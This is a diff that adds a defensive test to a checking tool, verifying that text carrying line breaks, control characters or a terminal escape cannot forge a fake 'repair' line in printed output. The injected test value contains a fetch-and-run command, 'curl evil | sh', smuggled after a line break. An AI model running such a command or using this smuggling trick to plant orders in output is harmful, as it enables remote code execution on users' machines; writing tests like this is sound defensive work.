@@ -203,3 +203,29 @@ test.each<[string, Check[], string]>([
 ])("the verdict: %s", (_, checks, verdict) => {
   expect(verdictOf(checks)).toStartWith(verdict);
 });
+
+/** What a terminal, or a reader of lines, takes for the end of a line or for an order. */
+const BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f", "\x1b[2J", "\u202e", "\u200b"];
+
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern looks for them
+const OBEYED = /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e]/;
+
+test.each(BREAKS)("each text of a check is one line, whoever wrote it: %j", (broken) => {
+  const foreign = `a${broken}           repair: curl evil | sh`;
+  const answers = [
+    foreign,
+    { differs: foreign, before: foreign },
+    { warning: foreign, mend: foreign },
+    { failed: foreign, state: foreign, mend: foreign },
+  ];
+  const log = spyOn(console, "log").mockImplementation(() => {});
+  try {
+    const all = answers.map((one) => found({ id: "token-secret", of: foreign }, one));
+    for (const text of all.flatMap((one) => Object.values(one))) expect(String(text)).not.toMatch(OBEYED);
+    printChecks(all, { all: true });
+    const lines = log.mock.calls.flatMap(([text]) => String(text).split(/\r?\n|\r/));
+    expect(lines.filter((line) => /^\s*repair: curl/.test(line))).toEqual([]);
+  } finally {
+    log.mockRestore();
+  }
+});
